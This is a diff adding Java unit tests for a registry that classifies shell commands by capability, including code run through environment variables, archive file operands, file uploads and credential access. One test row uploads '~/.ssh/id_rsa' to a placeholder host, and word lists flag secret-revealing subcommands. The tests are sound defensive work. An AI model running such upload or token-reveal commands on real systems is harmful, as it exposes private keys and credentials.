@@ -200,4 +200,96 @@ class ProgramRegistryTest {
                 .isEqualTo(want);
         assertThat(r.find("anything", List.of("x", word)).capabilities()).isEmpty();
     }
+
+    private static final ProgramRegistry PAYLOADS = payloads();
+
+    private static ProgramRegistry payloads() {
+        List<Problem> problems = new ArrayList<>();
+        ProgramRegistry r = ProgramsParser.parse("p.yaml", """
+                secret_words: [secret, token]
+                reveal_words: [get, show, print]
+                programs:
+                  - names: [vcs]
+                    source: test
+                    subcommands: 1
+                    facts:
+                      - {does: runs_code, signal: config_code, env: [VCS_PAGER], payload: value}
+                      - {does: runs_code, signal: config_code, env: [VCS_CONFIG_COUNT]}
+                  - names: [arc]
+                    source: test
+                    subcommands: 0
+                    value_options: [-x]
+                    facts:
+                      - {does: writes, payload: first-operand}
+                      - {does: reads, payload: later-operands}
+                  - names: [up]
+                    source: test
+                    subcommands: 1
+                    facts:
+                      - {does: sends, payload: at-files}
+                  - names: [cloud]
+                    source: test
+                    subcommands: 2
+                """, ProgramRegistry.empty(), problems);
+        assertThat(problems).isEmpty();
+        return r;
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiter = '|', textBlock = """
+        VCS_PAGER=less -R       | less -R | true
+        VCS_CONFIG_COUNT=1      |         | true
+        VCS_AUTHOR=dev          |         | false
+        """)
+    void env_factHoldsOnAVariableSetForTheCommand_withItsValueAsPayload(
+            String assignment, String payload, boolean holds) {
+        String[] kv = assignment.split("=", 2);
+        ProgramRegistry.Found found = PAYLOADS.find("vcs", List.of("log"), Map.of(kv[0], kv[1]));
+        assertThat(found.signals().contains(Signal.CONFIG_CODE)).isEqualTo(holds);
+        assertThat(found.payloads().getOrDefault(Capability.RUNS_CODE, List.of()))
+                .isEqualTo(payload == null ? List.of() : List.of(payload));
+        assertThat(PAYLOADS.find("vcs", List.of("log")).signals()).isEmpty();
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiter = '|', textBlock = """
+        -x skip out.zip a b   | out.zip | a,b
+        out.zip               | out.zip |
+        -r                    |         |
+        """)
+    void firstAndLaterOperands_areTheArchiveAndItsFiles(String args, String written, String read) {
+        ProgramRegistry.Found found = PAYLOADS.find("arc", List.of(args.split(" ")));
+        assertThat(found.payloads().getOrDefault(Capability.WRITES, List.of()))
+                .isEqualTo(written == null ? List.of() : List.of(written));
+        assertThat(found.payloads().getOrDefault(Capability.READS, List.of()))
+                .isEqualTo(read == null ? List.of() : List.of(read.split(",")));
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiter = '|', textBlock = """
+        POST https://x.example/u f@~/.ssh/id_rsa       | ~/.ssh/id_rsa
+        POST https://x.example/u data=@body.json cfg:=@c.json | body.json,c.json
+        POST https://user@x.example/u name=dev          |
+        """)
+    void atFiles_areTheFilesAfterAFieldsAt(String args, String sent) {
+        ProgramRegistry.Found found = PAYLOADS.find("up", List.of(args.split(" ")));
+        if (sent == null) {
+            assertThat(found.capabilities()).doesNotContain(Capability.SENDS);
+        } else {
+            assertThat(found.payloads().get(Capability.SENDS)).isEqualTo(List.of(sent.split(",")));
+        }
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiter = '|', textBlock = """
+        secrets get-secret-value | true
+        auth print-token         | true
+        secret show              | true
+        secret list              | false
+        config get               | false
+        """)
+    void revealWords_besideASecretWord_areCredentialAccess(String words, boolean access) {
+        assertThat(PAYLOADS.find("cloud", List.of(words.split(" "))).signals().contains(Signal.CREDENTIAL_ACCESS))
+                .isEqualTo(access);
+    }
 }
